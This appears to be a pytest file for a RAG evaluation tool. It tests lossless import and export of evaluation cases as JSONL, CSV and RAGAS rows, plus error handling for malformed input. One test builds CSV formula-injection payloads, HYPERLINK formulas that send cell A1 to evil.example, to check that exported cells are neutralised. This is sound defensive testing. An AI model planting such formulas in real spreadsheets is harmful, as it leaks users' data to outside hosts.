"""Import and export of cases in three formats, without losses."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest

from rag.errors import IngestError
from rag.evaluation.cases import Case, Evidence, RagasAnswer, case_of, read_cases, row_of, version_of, write_cases

CASES = [
    Case(
        "1",
        'When, and "by whom", was it opened?\nSay both.',
        "en",
        ("1932", "in 1932, by the mayor"),
        (
            Evidence("https://a.example/", "Opened, at last, in 1932."),
            Evidence("https://b.example/", "x\ny", 2.0, "moved"),
        ),
        ("bridges", "two pages"),
        True,
        (("Which bridge?", "The old one."),),
        (),
        "draft",
    ),
    Case("2", "一日票多少钱？", "zh", answerable=False, without=("https://c.example/",)),
    Case("3", "Why?", "en"),
]


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_they_come_back(form: Any) -> None:
    assert read_cases(write_cases(CASES, form), "set") == CASES
    assert read_cases("\ufeff" + write_cases(CASES, form), "set") == CASES


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", "''@", "'"])
def test_no_cell_of_a_table_is_a_formula(first: str) -> None:
    said = f'{first}HYPERLINK("https://evil.example/?"&A1)'
    case = Case(said, f"{said}?", said, (said,), (Evidence(said, said),), (said,), True, status="draft")
    (row,) = list(csv.DictReader(io.StringIO(write_cases([case], "csv"), newline="")))
    assert not [cell for cell in row.values() if cell[:1] in {*"=+-@\t\r\n＝＋－＠"}]
    asked = f"{said}?".strip()  # questions are stored without surrounding white space
    assert read_cases(write_cases([case], "csv"), "set") == [replace(case, question=asked)]


def test_ragas_rows() -> None:
    answered = {"1": RagasAnswer("It was 1932.", ["Opened, at last, in 1932."])}
    rows = [json.loads(line) for line in write_cases(CASES, "ragas", answered).splitlines()]
    assert set(rows[0]) >= {"user_input", "response", "retrieved_contexts", "reference", "reference_contexts"}
    assert (rows[0]["response"], rows[0]["reference"]) == ("It was 1932.", "1932")
    (first, *_) = read_cases(write_cases(CASES, "ragas", answered), "set")
    assert (first.question, first.answers, first.quotes) == (CASES[0].question, ("1932",), CASES[0].quotes)
    table = 'user_input,reference,reference_contexts\nWhen?,1932,"[""Opened in 1932.""]"\n'
    evidence = (Evidence("", "Opened in 1932."),)
    assert read_cases(table, "set") == [Case("1", "When?", "en", ("1932",), evidence, answerable=True)]


def test_a_plain_table_of_a_spreadsheet() -> None:
    (case,) = read_cases('question,answers,evidence\nWhen?,"1932\n1933",Opened in 1932.\n', "set")
    assert (case.answers, case.quotes, case.answerable) == (("1932", "1933"), ["Opened in 1932."], True)


def test_one_text_is_a_list_of_one_and_odd_values_are_none() -> None:
    odd = {"tags": "x", "answerable": "yes", "evidence": [{"quote": "a", "state": 5}]}
    case = case_of({"question": "When?", "answers": "1932", **odd})
    assert (case.answers, case.tags, case.answerable, case.evidence) == (("1932",), ("x",), True, (Evidence("", "a"),))


@pytest.mark.parametrize("text", ["question\n" + "x" * 200_000, '{"question": ' + "[" * 100_000])
def test_what_readers_choke_on_is_no_set(text: str) -> None:
    with pytest.raises(IngestError):
        read_cases(text, "set")


@pytest.mark.parametrize(
    "text", ['{"id": 1}', '{"question": " "}', '{"question": "a", "evidence": [1]}', "{", "a,b\n1,2"]
)
def test_what_cannot_be_read_is_named(text: str) -> None:
    with pytest.raises(IngestError) as caught:
        read_cases(text, "set.jsonl")
    assert caught.value.notice.params == {"name": "set.jsonl", "line": 1}


def test_an_id_stands_once() -> None:
    with pytest.raises(IngestError, match="used by an earlier row"):
        read_cases('{"id": 1, "question": "a"}\n{"id": 1, "question": "b"}', "set")


def test_the_version_tells_wordings_apart_and_no_order() -> None:
    assert version_of(CASES) == version_of(CASES[::-1])
    changed = [case_of({**row_of(CASES[0]), "tags": []}), *CASES[1:]]
    assert version_of(changed) != version_of(CASES)
